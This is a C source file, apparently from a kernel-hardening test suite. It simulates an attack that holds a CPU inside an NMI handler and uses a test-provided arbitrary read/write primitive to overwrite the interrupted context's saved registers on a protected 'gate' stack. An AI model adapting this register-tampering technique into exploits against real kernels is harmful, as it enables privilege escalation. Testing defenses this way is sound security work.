/* While an NMI's handler keeps the gate in the middle of a fork, another processor goes for the
 * registers that the handler was told: which page table an entry is in. */
#include <errno.h>
#include <stdbool.h>
#include <stddef.h>

#include "attack.h"

enum { WORD = sizeof(uint64_t), GATE_STACK_BYTES = 8 * BW_PAGE_SIZE };
/* What the way into the gate has at the end of its stack: with no more than that there it is on its
 * way in or out, and its registers are ordinary code's. */
enum { WAY_BYTES = 48 };
/* By one or several of these the gate sees its stack elsewhere than all others do. */
#define DISTANCE_BYTES (1ul << 30)

static uint64_t load(uint64_t address) { return (uint64_t)bw_vuln_read(address); }

static bool is_in_gate(const struct attack_gate *gate, uint64_t regs)
{
	uint64_t rsp = load(regs + offsetof(struct bw_frame, rsp));
	uint64_t nr_used = (gate->stack - rsp) % DISTANCE_BYTES;

	return nr_used > WAY_BYTES && nr_used < GATE_STACK_BYTES;
}

static void change_registers(const struct attack_gate *gate)
{
	long status = bw_vuln_nmi_hold(ATTACK_GATE_CPU);
	uint64_t regs = (uint64_t)status;
	bool is_met = regs != 0 && status != -ENOSYS && is_in_gate(gate, regs);

	attack_check("vuln_nmi_hold", status == -ENOSYS ? status : 0);
	gate->done->nr_met += is_met;
	for (size_t i = 0; is_met && i < offsetof(struct bw_frame, vector); i += WORD) {
		/* where it does not wait there is no time to look for the right one */
		if (!gate->waits || load(regs + i) == gate->own) {
			attack_check("vuln_write", bw_vuln_write(regs + i, gate->theirs));
			gate->done->nr_stores++;
		}
	}
	bw_vuln_nmi_end();
}

int main(void) { return attack_gate_fork(change_registers); }
